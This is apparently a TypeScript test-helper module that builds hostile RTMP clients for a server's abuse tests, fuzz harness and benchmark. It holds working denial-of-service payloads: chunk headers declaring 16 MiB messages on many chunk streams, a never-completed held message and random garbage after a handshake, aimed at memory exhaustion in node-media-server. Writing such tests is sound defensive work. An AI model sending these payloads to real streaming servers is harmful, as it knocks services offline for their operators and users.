import { randomBytes } from 'node:crypto';
import { createRequire } from 'node:module';
import { connect, type Socket } from 'node:net';

/**
 * Hostile RTMP clients, as an attacker would write them: for the abuse tests, the fuzz harness
 * and `npm run bench:rtmp-abuse`. Each returns once its bytes are written; `closed` resolves when
 * the server hangs up.
 */
export type AbuseClient = { socket: Socket; closed: Promise<void>; written: Promise<void> };

/** C0 (version 3) + C1 + C2 of the plain RTMP handshake, all at once (the server does not check C2). */
export function handshakeBytes(): Buffer {
  return Buffer.concat([Buffer.from([3]), randomBytes(1536 * 2)]);
}

/**
 * Type 0 chunk headers on distinct chunk stream ids, each declaring a message of `declared`
 * bytes: the headers that made node-media-server allocate 16 MiB per chunk stream.
 */
export function craftedChunkHeaders(count: number, declared = 0xffffff): Buffer {
  const headers: Buffer[] = [];
  for (let i = 0; i < count; i++) {
    const id = 2 + (i % 318);
    const basic = id < 64 ? Buffer.from([id]) : Buffer.from([0, id - 64]);
    const message = Buffer.alloc(11);
    message.writeUIntBE(0, 0, 3); // timestamp
    message.writeUIntBE(declared, 3, 3); // message length
    message[6] = 9; // video
    message.writeUInt32LE(1, 7); // message stream id
    headers.push(basic, message, randomBytes(16));
  }
  return Buffer.concat(headers);
}

/**
 * A large chunk size, then one message declared at `declared` bytes of which `payload` bytes
 * are sent: the server must hold them until the message completes, which it never does.
 */
export function heldMessage(declared: number, payload: number): Buffer {
  const setChunkSize = Buffer.from([2, 0, 0, 0, 0, 0, 4, 1, 0, 0, 0, 0, 0, 0, 0, 0]);
  setChunkSize.writeUInt32BE(0x7fffffff, 12);
  const header = Buffer.from([3, 0, 0, 0, 0, 0, 0, 9, 1, 0, 0, 0]);
  header.writeUIntBE(declared, 4, 3);
  return Buffer.concat([setChunkSize, header, randomBytes(payload)]);
}

/**
 * What an eager encoder sends in one go, without waiting for answers: handshake, set chunk
 * size, connect, createStream, publish, then a video message of `videoBytes` and an audio one.
 */
export function publisherOpening(streamKey: string, videoBytes = 200): Buffer {
  const amf = createRequire(import.meta.url)('node-media-server/src/protocol/amf.js') as { encodeAmf0Cmd(o: unknown): Buffer };
  const chunk = (csid: number, type: number, payload: Buffer, streamId = 0) => {
    const header = Buffer.alloc(12);
    header[0] = csid;
    header.writeUIntBE(payload.length, 4, 3);
    header[7] = type;
    header.writeUInt32LE(streamId, 8);
    return Buffer.concat([header, payload]);
  };
  const size = Buffer.alloc(4);
  size.writeUInt32BE(0x7fffffff);
  return Buffer.concat([
    handshakeBytes(),
    chunk(2, 1, size),
    chunk(3, 20, amf.encodeAmf0Cmd({ cmd: 'connect', transId: 1, cmdObj: { app: 'live', tcUrl: 'rtmp://127.0.0.1/live', type: 'nonprivate' } })),
    chunk(3, 20, amf.encodeAmf0Cmd({ cmd: 'createStream', transId: 2, cmdObj: null })),
    chunk(3, 20, amf.encodeAmf0Cmd({ cmd: 'publish', transId: 3, cmdObj: null, streamName: streamKey, type: 'live' }), 1),
    chunk(6, 9, Buffer.concat([Buffer.from([0x17, 1, 0, 0, 0]), randomBytes(videoBytes)]), 1),
    chunk(4, 8, Buffer.concat([Buffer.from([0xaf, 1]), randomBytes(50)]), 1),
  ]);
}

export function sendRaw(port: number, bytes: Buffer, host = '127.0.0.1'): AbuseClient {
  const socket = connect(port, host);
  socket.on('error', () => {});
  // Whatever the server answers is read and dropped, so its close is seen.
  socket.resume();
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  const written = new Promise<void>((resolve) => {
    socket.once('connect', () => socket.write(bytes, () => resolve()));
    socket.once('close', () => resolve());
  });
  return { socket, closed, written };
}

/** A connection that sends `bytes` random bytes after a valid handshake (or with none). */
export function garbageAfterHandshake(port: number, bytes: number, handshake = true): AbuseClient {
  return sendRaw(port, Buffer.concat([handshake ? handshakeBytes() : Buffer.alloc(0), randomBytes(bytes)]));
}
